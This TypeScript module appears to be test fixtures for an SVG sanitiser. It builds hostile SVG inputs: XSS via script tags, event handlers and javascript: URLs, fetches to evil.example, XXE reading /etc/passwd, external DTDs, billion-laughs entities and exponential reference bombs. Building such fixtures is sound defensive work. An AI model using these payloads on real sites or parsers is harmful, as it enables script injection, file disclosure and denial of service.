const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" ${attributes}>${inside}</svg>`;

const laughs = (levels: number): string => {
  const entities = Array.from({ length: levels }, (_, i) =>
    i === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE svg [${entities.join('')}]>${svg(`<text>&l${levels - 1};</text>`)}`;
};

/** So many levels, each of which draws the one below it ten times. */
const levels = (count: number, level: (i: number, below: string) => string): string =>
  svg(Array.from({ length: count }, (_, i) => level(i, i === 0 ? 'nothing' : `l${i - 1}`)).join(''));
const ten = (markup: string): string => markup.repeat(10);
const TEN_CORNERS = 'M0 0 1 1 2 2 3 3 4 4 5 5 6 6 7 7 8 8 9 9';

/** The ways in which a few lines of drawing become thousands of millions of shapes. */
export const multiplications: Readonly<Record<string, (count: number) => string>> = {
  use: (n) => levels(n, (i, below) => `<g id="l${i}"><path d="M0 0"/>${ten(`<use href="#${below}"/>`)}</g>`),
  'use with an address that is left out': (n) =>
    levels(n, (i, below) => `<g id="l${i}">${ten(`<use href="x" xlink:href="#${below}"/>`)}</g>`),
  'use, with a second id that looks harmless': (n) =>
    levels(n, (i, below) => `<g id="l${i}">${ten(`<use href="#${below}"/>`)}</g>`).replace(
      '</svg>',
      `${Array.from({ length: n }, (_, i) => `<g id="l${i}"/>`).join('')}</svg>`,
    ),
  patterns: (n) =>
    levels(n, (i, below) => `<pattern id="l${i}">${ten(`<rect fill="url(#${below})"/>`)}</pattern>`),
  'inherited patterns': (n) =>
    levels(n, (i, below) => `<pattern id="l${i}"><g fill="url(#${below})">${ten('<rect/>')}</g></pattern>`),
  'patterns inherited by what is used': (n) =>
    levels(
      n,
      (i, below) => `<pattern id="l${i}"><use stroke="url(#${below})" href="#ten"/></pattern>`,
    ).replace('</svg>', `<g id="ten">${ten('<rect/>')}</g></svg>`),
  masks: (n) => levels(n, (i, below) => `<mask id="l${i}">${ten(`<rect mask="url(#${below})"/>`)}</mask>`),
  'clip paths': (n) =>
    levels(
      n,
      (i, below) => `<clipPath id="l${i}">${ten(`<rect style="clip-path:url('#${below}')"/>`)}</clipPath>`,
    ),
  markers: (n) =>
    levels(
      n,
      (i, below) => `<marker id="l${i}"><path d="${TEN_CORNERS}" marker-mid="url(#${below})"/></marker>`,
    ),
  'filters that draw elements': (n) =>
    levels(
      n,
      (i, below) =>
        `<filter id="f${i}"><feImage href="#${below}"/></filter><g id="l${i}">${ten(`<rect filter="url(#f${i})"/>`)}</g>`,
    ),
  'a style sheet': (n) =>
    levels(
      n,
      (i, below) =>
        `<style>.c${i}{fill:url(#${below})}</style><pattern id="l${i}">${ten(`<rect class="a c${i}"/>`)}</pattern>`,
    ),
  'a variable of a style sheet': (n) =>
    levels(
      n,
      (i, below) =>
        `<pattern id="l${i}" style="--p:url(#${below})">${ten('<rect style="fill:var(--p)"/>')}</pattern>`,
    ),
};

/** Browsers end the text at the end of the line, so that the rule that seems to be about nothing is the first one. */
export const unclosedText = levels(
  9,
  (i, below) =>
    `<style>.c${i}{x:"}.never{\n;mask:url(#${below})}</style><mask id="l${i}">${ten(`<rect class="c${i}"/>`)}</mask>`,
);

/** Drawings that would run, fetch or blow up something if they were served as they came. */
export const hostileDrawings: readonly string[] = [
  svg('<script>alert(1)</script>'),
  svg('<script href="https://evil.example/x.js"/>'),
  svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
  svg('<SCRIPT>alert(1)</SCRIPT>'),
  svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  svg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
  svg('<![CDATA[<script>alert(1)</script>]]>'),
  svg('<!--><script>alert(1)</script-->'),
  svg('', 'onload="alert(1)"'),
  svg('', 'ONLOAD="alert(1)"'),
  svg('<rect width="9" height="9" onclick="alert(1)" onmouseover="alert(2)"/>'),
  svg('<g onbegin="alert(1)"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></g>'),
  svg('<image href="x" onerror="alert(1)"/>'),
  svg('<a href="javascript:alert(1)"><text>x</text></a>'),
  svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
  svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
  svg('<use href="javascript:alert(1)"/>'),
  svg('<use href="https://evil.example/x.svg#a"/>'),
  svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  svg('<image href="https://evil.example/track.png"/>'),
  svg('<image href="//evil.example/track.png"/>'),
  svg('<image href="file:///etc/passwd"/>'),
  svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'),
  svg('<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  svg('<feImage href="https://evil.example/x"/>'),
  svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
  ),
  svg(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  ),
  svg('<iframe src="https://evil.example"/>'),
  svg('<embed src="https://evil.example"/>'),
  svg('<object data="https://evil.example"/>'),
  svg('<audio src="x" onerror="alert(1)"/>'),
  svg('<handler type="text/javascript">alert(1)</handler>'),
  svg('<set attributeName="onload" to="alert(1)"/>'),
  svg('<set attributeName="href" to="javascript:alert(1)"/>'),
  svg('<animate attributeName="xlink:href" values="javascript:alert(1)"/>'),
  svg('<rect style="background:url(https://evil.example/x)"/>'),
  svg('<rect style="background:u\\72l(https://evil.example/x)"/>'),
  svg('<rect fill="url(https://evil.example/x#a)"/>'),
  svg('<rect fill="url(&quot;https://evil.example/x#a&quot;)"/>'),
  svg('<rect filter="url( javascript:alert(1) )"/>'),
  svg('<style>@import url(https://evil.example/x.css);</style>'),
  svg('<style>@import "https://evil.example/x.css";</style>'),
  svg('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>'),
  svg('<style>rect{background:expression(alert(1))}</style>'),
  svg('<style>rect{-moz-binding:url(https://evil.example/x)}</style>'),
  svg('<style>rect{background:image-set("https://evil.example/x" 1x)}</style>'),
  '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${svg('<text>x</text>')}`,
  `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('<text>x</text>')}`,
  laughs(4),
  laughs(12),
  ...Object.values(multiplications).flatMap((make) => [make(3), make(12)]),
  unclosedText,
  svg('<pattern id="a"><rect fill="url(#a)"/></pattern><rect fill="url(#a)"/>'),
  svg(`<g id="a">${'<path/>'.repeat(20_000)}</g>${'<rect mask="url(#a)"/>'.repeat(20_000)}`),
  svg('<image href="data:image/jpeg;base64,/9j/4QBARXhpZgAA"/>'),
  svg('<image xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA+voAAPr6"/>'),
  svg('<feImage href="data:image/gif;base64,R0lGODlh"/>'),
  svg('<g id="a"><use href="#a"/></g>'),
  svg('<g>'.repeat(5_000) + '</g>'.repeat(5_000)),
  svg('<path d="M0 0"/>'.repeat(60_000)),
  svg('<g'),
  '<svg',
  '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"/><script>alert(1)</script>',
  svg('<text>\u0001</text>'),
  svg('<metadata><script>alert(1)</script></metadata><title>&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
];
